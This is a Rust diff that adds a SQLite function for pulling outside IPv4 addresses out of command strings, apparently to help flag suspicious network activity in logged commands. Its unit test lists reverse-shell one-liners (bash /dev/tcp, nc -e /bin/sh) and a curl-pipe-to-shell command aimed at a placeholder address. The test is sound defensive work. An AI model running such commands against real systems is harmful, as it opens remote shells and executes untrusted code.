@@ -89,6 +89,10 @@ fn functions(connection: &Connection) -> rusqlite::Result<()> {
         let text = context.get::<Option<String>>(0)?;
         Ok(text.as_deref().and_then(url_in).map(str::to_owned))
     })?;
+    connection.create_scalar_function("address_in", 1, flags, |context| {
+        let text = context.get_raw(0).as_str_or_null().ok().flatten().map(str::to_owned);
+        Ok(text.as_deref().and_then(address_in).map(|address| address.to_string()))
+    })?;
     connection.create_scalar_function("first_path", 1, flags, |context| {
         // Names are bytes; one that is no text names no node.
         let list = context.get_raw(0).as_str_or_null().ok().flatten().map(str::to_owned);
@@ -178,9 +182,30 @@ fn url_in(text: &str) -> Option<&str> {
     url.get(..end)
 }
 
+/// The first IPv4 address outside that a command names other than as the host of its first URL.
+fn address_in(text: &str) -> Option<IpAddr> {
+    let host = url_in(text).and_then(url_host).unwrap_or_default();
+    text.split(|c: char| !c.is_ascii_alphanumeric() && c != '.' && c != '-' && c != '_')
+        .filter(|word| *word != host && word.bytes().filter(|b| *b == b'.').count() == 3)
+        .filter_map(|word| word.parse::<std::net::Ipv4Addr>().ok().map(IpAddr::V4))
+        .find(|address| super::shared::outside(*address))
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn addresses_in_commands() {
+        for (text, address) in [
+            ("bash -i >& /dev/tcp/198.51.100.23/4444 0>&1", Some("198.51.100.23")),
+            ("nc -e /bin/sh 198.51.100.23 4444", Some("198.51.100.23")),
+            ("curl http://198.51.100.23/x | sh", None),
+            ("ping 10.0.0.1 && /opt/app-1.2.3.4/run 127.0.0.1", None),
+        ] {
+            assert_eq!(address_in(text).map(|a| a.to_string()).as_deref(), address, "{text}");
+        }
+    }
 
     #[test]
     fn hosts_unify_however_they_are_written() {
